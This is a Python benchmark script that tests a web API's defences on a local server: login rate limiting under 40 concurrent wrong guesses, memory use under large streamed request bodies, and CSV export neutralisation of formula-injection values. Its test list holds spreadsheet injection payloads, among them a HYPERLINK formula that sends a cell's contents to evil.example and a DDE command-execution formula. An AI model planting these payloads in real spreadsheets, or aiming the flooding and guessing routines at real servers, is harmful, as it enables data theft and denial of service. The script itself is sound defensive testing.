"""The API against hostile clients, measured on a real server process.

Starts a private PostgreSQL (or uses CLEARDAY_DATABASE_URL's server), migrates a fresh
database, runs `clearday serve` and prints:

- concurrent login guesses checked against the limit (40 at once from one address;
  checked = answered 401, the rest 429): must equal the limit;
- peak RSS of the server while an anonymous client streams 100 MB to /api/v1/import
  (chunked, then with a Content-Length), vs idle: target within 50 MB;
- the same for a 24 MB JSON array to /api/v1/auth/login;
- the export check: text cells written by the one CSV writer for a set of dangerous
  values, how many were neutralised and how many dangerous cells remain.

Run: flock /tmp/clearday-bench.lock .venv/bin/python bench/web_hostile.py
The last line is one JSON object.
"""

from __future__ import annotations

import csv
import io
import json
import os
import shutil
import socket
import sys
import threading
import time
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path

import httpx
import psutil
import psycopg

ROOT = Path(__file__).resolve().parent.parent
sys.path.insert(0, str(ROOT))

from api_server import ApiServer  # noqa: E402

from fleet import db  # noqa: E402
from fleet.auth import service as auth_service  # noqa: E402
from fleet.auth.models import Role  # noqa: E402
from fleet.config import Settings  # noqa: E402
from fleet.devservers import PrivatePostgres  # noqa: E402
from fleet.spreadsheet import FORMULA_STARTS, to_csv  # noqa: E402

MB = 1_000_000
GUESSES = 40
CHUNK_BYTES = 64 * 1024
DANGEROUS = [
    '=HYPERLINK("http://evil.example/?"&A1,"点此查看")', "=1+1", "+1+1", "-2+3", "@SUM(A1:A9)",
    "\t=1", "\r=1", "=cmd|' /C calc'!A0", "-@x",
]  # fmt: skip


def log(message: str) -> None:
    print(message, file=sys.stderr, flush=True)


def fresh_database(admin_url: str) -> str:
    name = "clearday_bench_hostile"
    with psycopg.connect(admin_url, autocommit=True) as conn:
        conn.execute(f"DROP DATABASE IF EXISTS {name} WITH (FORCE)")
        conn.execute(f"CREATE DATABASE {name}")
    url = psycopg.conninfo.make_conninfo(admin_url, dbname=name)
    db.migrate(url)
    return url


class PeakRss:
    def __init__(self, pid: int) -> None:
        self.process = psutil.Process(pid)
        self.peak = 0
        self._stop = threading.Event()
        self._thread = threading.Thread(target=self._run, daemon=True)

    def _run(self) -> None:
        while not self._stop.is_set():
            self.peak = max(self.peak, self.process.memory_info().rss)
            self._stop.wait(0.01)

    def __enter__(self) -> PeakRss:
        self._thread.start()
        return self

    def __exit__(self, *exc: object) -> None:
        self._stop.set()
        self._thread.join()


def raw_post(port: int, path: str, *, total_bytes: int, chunked: bool, body: bytes = b"") -> str:
    """POST from a plain socket that keeps sending whatever the server says (the hostile
    case); returns the status line the server answered with."""
    with socket.create_connection(("127.0.0.1", port), timeout=60) as sock:
        head = f"POST {path} HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Type: application/json\r\n"
        head += (
            "Transfer-Encoding: chunked\r\n" if chunked else f"Content-Length: {total_bytes}\r\n"
        )
        sock.sendall((head + "\r\n").encode())
        sent = 0
        piece = body[:CHUNK_BYTES] if body else b"0" * CHUNK_BYTES
        try:
            while sent < total_bytes:
                data = body[sent : sent + CHUNK_BYTES] if body else piece
                data = data[: total_bytes - sent]
                sock.sendall(f"{len(data):x}\r\n".encode() + data + b"\r\n" if chunked else data)
                sent += len(data)
            if chunked:
                sock.sendall(b"0\r\n\r\n")
        except OSError:
            pass  # the server stopped reading: what matters is its answer
        answer = sock.recv(4096).split(b"\r\n", 1)[0].decode(errors="replace")
    return answer


def concurrent_guesses(base: str, limit: int) -> dict[str, int]:
    def guess(i: int) -> int:
        return httpx.post(
            f"{base}/api/v1/auth/login",
            json={"username": "wang.li", "password": f"guess number {i}"},
            timeout=120,
        ).status_code

    with ThreadPoolExecutor(GUESSES) as pool:
        answers = list(pool.map(guess, range(GUESSES)))
    return {
        "guesses": GUESSES,
        "limit": limit,
        "checked": answers.count(401),
        "refused": answers.count(429),
        "other": GUESSES - answers.count(401) - answers.count(429),
    }


def body_figures(pid: int, port: int) -> dict[str, object]:
    process = psutil.Process(pid)
    time.sleep(1.0)
    idle = process.memory_info().rss
    out: dict[str, object] = {"idle_rss_mb": round(idle / 2**20, 1)}
    login_array = ("[" + ",".join(["1"] * (12 * MB)) + "]").encode()
    cases = [
        ("import_100mb_chunked", "/api/v1/import", 100 * MB, True, b""),
        ("import_100mb_length", "/api/v1/import", 100 * MB, False, b""),
        ("login_24mb_array", "/api/v1/auth/login", len(login_array), False, login_array),
    ]
    for name, path, size, chunked, body in cases:
        with PeakRss(pid) as peak:
            started = time.monotonic()
            status = raw_post(port, path, total_bytes=size, chunked=chunked, body=body)
            elapsed_s = time.monotonic() - started
        out[name] = {
            "status": status,
            "peak_rss_mb": round(peak.peak / 2**20, 1),
            "over_idle_mb": round((peak.peak - idle) / 2**20, 1),
            "seconds": round(elapsed_s, 2),
        }
        log(f"{name}: {out[name]}")
    return out


def export_check() -> dict[str, int]:
    rows = [
        {"point_id": f"P{i}", "name": value, "note": value} for i, value in enumerate(DANGEROUS)
    ]
    table = list(csv.reader(io.StringIO(to_csv(rows), newline="")))
    cells = [cell for row in table[1:] for cell in row]
    dangerous_in = sum(1 for r in rows for v in r.values() if v.startswith(FORMULA_STARTS))
    return {
        "dangerous_cells_written": dangerous_in,
        "cells_neutralised": sum(1 for c in cells if c.startswith("'") and c[1:] in DANGEROUS),
        "dangerous_cells_found": sum(1 for c in cells if c.startswith(FORMULA_STARTS)),
    }


def main() -> None:
    configured = os.environ.get("CLEARDAY_DATABASE_URL")
    private: PrivatePostgres | None = None
    if configured:
        admin_url = configured
    else:
        data_dir = ROOT / ".clearday" / "bench-hostile" / "pg"
        if data_dir.exists():
            shutil.rmtree(data_dir.parent)
        private = PrivatePostgres(data_dir, durable=False).start()
        admin_url = private.admin_url
    server: ApiServer | None = None
    try:
        url = fresh_database(admin_url)
        with psycopg.connect(url, autocommit=True) as conn:
            auth_service.create_user(
                conn, username="wang.li", password=os.urandom(16).hex(), role=Role.viewer
            )
        limit = Settings().web.login_max_failures
        server = ApiServer(url).start()
        base = server.base
        assert server.process is not None
        bodies = body_figures(server.process.pid, server.port)
        log("40 concurrent wrong guesses (argon2 at the library defaults) …")
        throttle = concurrent_guesses(base, limit)
        log(f"login: {throttle}")
        exports = export_check()
        log(f"exports: {exports}")
        print(json.dumps({"login": throttle, "bodies": bodies, "exports": exports}))
    finally:
        if server is not None:
            server.stop()
        if private is not None:
            private.stop()


if __name__ == "__main__":
    main()
